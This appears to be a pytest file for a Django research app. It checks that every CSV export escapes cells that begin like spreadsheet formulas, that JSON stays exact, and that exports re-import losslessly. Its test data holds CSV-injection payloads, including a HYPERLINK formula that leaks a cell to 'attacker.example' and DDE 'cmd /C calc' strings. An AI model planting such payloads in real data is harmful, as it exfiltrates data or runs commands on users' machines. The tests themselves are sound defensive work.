"""No cell of any CSV export runs as a spreadsheet formula; JSON stays exact; an items export re-imports losslessly.

Hostile text is put wherever people type it (item text and metadata, a rationale, a team, a study, endpoint,
audit, corpus or model name, a corpus's templates and terms, an upload's file name, a model's reply, a codebook's
and its codes' names, definitions and examples, a coding round's and a coder's name, a coder's memo), then every
GET operation of the API is read as CSV, and so is the admin's file of invite links.
"""
from __future__ import annotations

import csv
import io
import re

import pytest
from django.http import QueryDict
from django.urls import URLPattern

from annotation.models import AnalysisRun, Item, Label, Participant
from annotation.services import items_import_file
from annotation.study_alternatives import study_alternatives_compute
from annotation.study_analysis import study_analysis_compute
from auditapp.engine import launch, registry
from auditapp.models import Audit, AuditModel, AuditRequest, LLMEndpoint, LLMReply
from auditapp.paradigms.bits.corpora import bits_corpus_generate
from auditapp.paradigms.classification.extraction_services import extraction_create, extraction_run
from auditapp.paradigms.self_report.services import self_report_audit_create
from coding.coding_services import coding_save
from coding.models import Code, Codebook
from coding.round_services import coder_add, round_create
from config.urls import api_patterns
from psychometrics.annotator_imports import annotator_import_submit
from psychometrics.models import StudyInstrument
from tests.auditapp.judged_audits import recorded_bits_audit, unprepared_wabt_audit
from tests.auditapp.test_audit_dashboard_view import COMPLETED_PLAN, build_audit
from tests.factories import make_study
from tests.psychometrics.test_annotator_imports import SCORES, autalic_file

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
TEXTS = {
    "target": HYPERLINK,
    "preceding": "+1+cmd|' /C calc'!A0",
    "following": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "quoted": "'=already quoted by its author",
    "apostrophe": "'Tis the season",
    "padded": "  spaces around, kept  ",
}
ITEM_ROWS = [
    ["id", "preceding", "sentence", "following", "source", "A1_Score"],
    ["i1", TEXTS["preceding"], TEXTS["target"], TEXTS["following"], TEXTS["tab"], "1"],
    ["i2", "", "replaced by text that really starts with a quote", "", "", "0"],
    ["i3", "", TEXTS["apostrophe"], "", "-1", "1"],
    ["-4", "", TEXTS["padded"], "", "", "0"],
    ["i5", "", TEXTS["tab"], "", "", "0"],
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def item_file() -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(ITEM_ROWS)
    return buffer.getvalue().encode()


@pytest.fixture
def hostile(shipped_instruments, audit_tasks_off):
    """A study and audits whose user-typed text all starts like a formula; the ids to put in API paths."""
    study = make_study(name="=cmd|' /C calc'!A0")
    imported = items_import_file(study=study, filename="-items.csv", content=item_file())
    assert imported.status == "succeeded", imported.errors
    # In a file, "'=" would be read as our escape; text that really starts so can come from JSON Lines.
    Item.objects.filter(study=study, external_id="i2").update(target=TEXTS["quoted"])
    Label.objects.filter(item__study=study).update(rationale=HYPERLINK)
    Participant.objects.filter(study=study).update(team="@team")
    Participant.objects.create(study=study, pseudonym="P0001", team="-invited team")
    audit = build_audit(COMPLETED_PLAN, name="=audit")
    AuditModel.objects.filter(audit=audit).update(label="-model")
    AuditRequest.objects.filter(audit=audit, outcome="error").update(error="=error")
    AuditRequest.objects.filter(audit=audit, outcome="label").update(explanation="+explanation")
    LLMReply.objects.filter(key__in=AuditRequest.objects.filter(audit=audit).values("key")).update(text="@reply")
    endpoint = LLMEndpoint.objects.create(name="=endpoint", base_url="http://127.0.0.1:9")
    self_report = self_report_audit_create(name="=self report", instruments=[shipped_instruments["aq50"]],
                                           models=[launch.ModelChoice(endpoint=endpoint, model="=m")])
    corpus = bits_corpus_generate(name="=corpus", spec={
        "templates": [{"id": "-T1", "text": "=<group> person."}], "emotions": [],
        "groups": [{"group": "@group", "terms": ["+term"]}]})
    # A BITS audit of recorded scores, its tool and sentences typed to look like formulas.
    recorded = recorded_bits_audit(name="=recorded", perturbed=(
        ["", "Template", "Sentence", "Sentiment", "Class", "SubClass", "=tool"],
        [["0", "T1", "-They are parents of a Blind child.", "Neutral", "Disable", "Blind", "-0.4"]]),
        controls=(["", "Template", "Sentence", "Sentiment", "=tool"],
                  [["0", "T1", "-They are parents of a child.", "Neutral", "0.0"]]))
    implicit_bias = unprepared_wabt_audit(endpoint, name="=wabt")
    annotated = make_study(slug="scored")
    StudyInstrument.objects.create(study=annotated, instrument=shipped_instruments["aq50"], role="aq", position=0)
    StudyInstrument.objects.create(study=annotated, instrument=shipped_instruments["sata_partial"], role="sata",
                                   position=1)
    items_import_file(study=annotated, filename="autalic.csv", content=autalic_file())
    annotator_import = annotator_import_submit(study=annotated, kind="scores", filename="=scores.csv",
                                               content=SCORES)
    # The annotated study's analysis and its alternative ground truths, for their export (the hostile study has no
    # scores to weight by).
    study_analysis_compute(study_id=annotated.id)
    study_alternatives_compute(run_id=AnalysisRun.objects.filter(study=annotated).latest("id").id)
    extraction, _ = extraction_create(audit=audit, mode="rules")
    extraction_run(extraction_id=extraction.id)
    names = names_audit_with_hostile_material(endpoint)
    codebook = Codebook.objects.create(name="=lens", description="+lens", source="@source")
    codes = [Code.objects.create(codebook=codebook, name=name, definition="-definition", examples=[HYPERLINK],
                                 position=position)
             for position, name in enumerate(("=WORDING", "+TONE", "@FOCUS", "\tIDENTITY"))]
    coding_round = round_create(audit=audit, codebooks=[codebook.id], name="=round", sample_size=4, seed=1)
    coder = coder_add(coding_round=coding_round, lens_id=coding_round.lenses.get().id, name="=coder")
    for excerpt in coding_round.excerpts.all():
        coding_save(coder=coder, excerpt_id=excerpt.id, code_ids=[code.id for code in codes[:2]], memo=HYPERLINK,
                    confirm=True)
    return {"study": study, "audit": audit, "self_report": self_report, "import": imported, "endpoint": endpoint,
            "corpus": corpus, "extraction": extraction, "annotator_import": annotator_import, "annotated": annotated,
            "codebook": codebook, "coding_round": coding_round, "coder": coder, "recorded": recorded,
            "implicit_bias": implicit_bias, "names": names}


def names_audit_with_hostile_material(endpoint) -> Audit:
    """A names audit whose names, group and vignette start like formulas, its one request failed (no server is
    asked: the request is written as its preparation would)."""
    values = {"name": "=names", "iterations": 1, "pairs_per_iteration": 1, "corpus": None, "analysis": {},
              "reference_group": "White", "models": [{"endpoint": endpoint, "model": "=m", "label": "", "params": {}}],
              "material": {"tasks": ["warm"], "vignettes": ["-Hi, I'm {NAME}. I like tea."],
                           "names": [{"name": "=Evil", "group": "@group", "gender": "female"},
                                     {"name": "+Ref", "group": "White", "gender": "female"}]}}
    audit = registry.get("names").launch(values)
    AuditRequest.objects.create(audit=audit, audit_model=audit.models.get(), condition="warm", unit="iteration:0",
                                order=0, key="hostile-names", state=AuditRequest.State.FAILED, error="=error")
    return audit


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


def get_paths(ids: dict) -> list[str]:
    """Every GET operation of the API, with the hostile objects' ids in its path."""
    paths = []
    for pattern in api_patterns:
        assert isinstance(pattern, URLPattern)
        route = str(pattern.pattern)
        if route in ("", "schema/", "docs/", "redoc/") or "<str:action>" in route:  # "": the root, names routes
            continue
        if not hasattr(getattr(pattern.callback, "view_class", None), "get"):
            continue  # no GET (corpora/upload/, a round's coders and mappings)
        if "<int:request_id>" in route:
            continue  # one request as JSON (no CSV): its cells are covered by the responses export
        if route in ("audits/compare/", "model-card/") or route.endswith("/headline/"):
            continue  # JSON only: headline tables, whose cells the paradigms' own table exports cover
        if route.startswith("corpora/<int:pk>"):
            pk = ids["corpus"].id
        elif route.startswith("studies/<int:pk>/ground-truth-alternatives"):
            pk = ids["annotated"].id
        elif route.startswith("studies/<int:pk>"):
            pk = ids["study"].id
        elif route.startswith("annotator-imports/"):
            pk = ids["annotator_import"].id
        elif route.startswith("imports/"):
            pk = ids["import"].id
        elif route.startswith("endpoints/<int:pk>/models/"):
            continue  # it asks the endpoint's server for its models: nothing of ours to export
        elif route == "endpoints/<int:pk>/":
            pk = ids["endpoint"].id
        elif route.endswith("/qdc/"):
            continue  # the REFI-QDA XML file, no CSV (tests/coding/test_qdc.py)
        elif route.startswith("codebooks/"):
            pk = ids["codebook"].id
        elif route.startswith("coding-rounds/<int:pk>"):
            pk = ids["coding_round"].id
        elif route.startswith("teams/"):
            pk = ids["study"].team_id
        elif route.split("/")[-2] in ("answers", "scores", "validity", "judged-items"):
            pk = ids["self_report"].id
        elif route.endswith("/judged-sentences/"):
            pk = ids["recorded"].id
        elif route.endswith("/judged-instances/"):
            pk = ids["implicit_bias"].id
        elif route.endswith("/judged-pairs/"):
            names = ids["names"]
            paths.append(f"/api/{route.replace('<int:pk>', str(names.id))}?model={names.models.get().id}&task=warm")
            continue
        else:
            pk = ids["audit"].id
        paths.append("/api/" + route.replace("<int:pk>", str(pk)).replace("<str:name>", "metrics")
                     .replace("<str:extraction_id>", str(ids["extraction"].id))
                     .replace("<int:coder_id>", str(ids["coder"].id))
                     .replace("<int:user_id>", str(ids["study"].team.memberships.values_list("user_id", flat=True)[0])))
    return paths


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)


def test_no_cell_of_any_csv_export_runs_as_a_formula(api_client, hostile):
    paths = get_paths(hostile)
    assert len(paths) >= 18
    seen = set()
    for path in paths:
        path, _, query = path.partition("?")
        for row in csv_rows(api_client.get(path, {**QueryDict(query).dict(), "format": "csv"})):
            assert not [cell for cell in row if runs_as_formula(cell)], path
            seen.update(cell for cell in row if cell.startswith("'"))
    assert {"'" + HYPERLINK, "'=cmd|' /C calc'!A0", "'@team", "'-model", "'=error", "'+explanation", "'@reply",
            "'=endpoint", "'=audit", "'=self report", "'-items.csv", "'" + TEXTS["tab"], "''=already quoted by "
            "its author", "'=corpus", "'-T1|@group|+term", "'=+term person.", "'@group", "'+term", "'=lens", "'@source", "'=round", "'=coder",
            "'=WORDING", "'+TONE", "'@FOCUS", "'\tIDENTITY", "'=tool", "'-They are parents of a Blind child.",
            "'-They are parents of a child.", "'=Evil", "'+Ref", "'-Hi, I'm =Evil. I like tea."} <= seen


def test_numbers_stay_numbers(api_client, hostile):
    items = csv_rows(api_client.get(f"/api/studies/{hostile['study'].id}/items/?format=csv"))
    assert [row[0] for row in items] == ["item", "i1", "i2", "i3", "-4", "i5"]
    metrics = csv_rows(api_client.get(f"/api/audits/{hostile['audit'].id}/metrics/?format=csv"))
    negative = [cell for row in metrics[1:] for cell in row if cell.startswith("-")]
    assert negative and all(PLAIN_NUMBER.fullmatch(cell) for cell in negative)


def test_the_admin_invite_links_are_neutralised(staff_client, hostile):
    response = staff_client.get(f"/admin/annotation/study/{hostile['study'].id}/invite-links.csv")
    rows = csv_rows(response)
    assert rows[1][:2] == ["P0001", "'-invited team"]


def test_json_exports_are_exact(api_client, hostile):
    study = hostile["study"]
    items = {r["item"]: r for r in api_client.get(f"/api/studies/{study.id}/items/").json()["results"]}
    assert (items["i1"]["target"], items["i1"]["preceding"], items["i1"]["following"]) == (
        TEXTS["target"], TEXTS["preceding"], TEXTS["following"])
    assert items["i1"]["metadata"] == {"source": TEXTS["tab"]}
    assert items["i2"]["target"] == TEXTS["quoted"] and items["-4"]["target"] == TEXTS["padded"]
    labels = api_client.get(f"/api/studies/{study.id}/labels/").json()["results"]
    assert {r["rationale"] for r in labels} == {HYPERLINK}
    assert api_client.get("/api/audits/").json()["results"][-1]["name"] in ("=audit", "=self report")
    codings = api_client.get(f"/api/coding-rounds/{hostile['coding_round'].id}/codings/").json()["results"]
    assert {(r["coder"], r["memo"], tuple(r["codes"])) for r in codings} == {("=coder", HYPERLINK, ("=WORDING", "+TONE"))}


def test_an_items_export_re_imports_to_the_same_text(api_client, hostile):
    study = hostile["study"]
    exported = b"".join(api_client.get(f"/api/studies/{study.id}/items/?format=csv").streaming_content)
    again = make_study()
    result = items_import_file(study=again, filename="exported.csv", content=exported)
    assert result.status == "succeeded", result.errors
    fields = ("external_id", "target", "preceding", "following")
    original = list(Item.objects.filter(study=study).order_by("position").values_list(*fields))
    assert list(Item.objects.filter(study=again).order_by("position").values_list(*fields)) == original
    assert ("i5", TEXTS["tab"], "", "") in original and ("i3", TEXTS["apostrophe"], "", "") in original
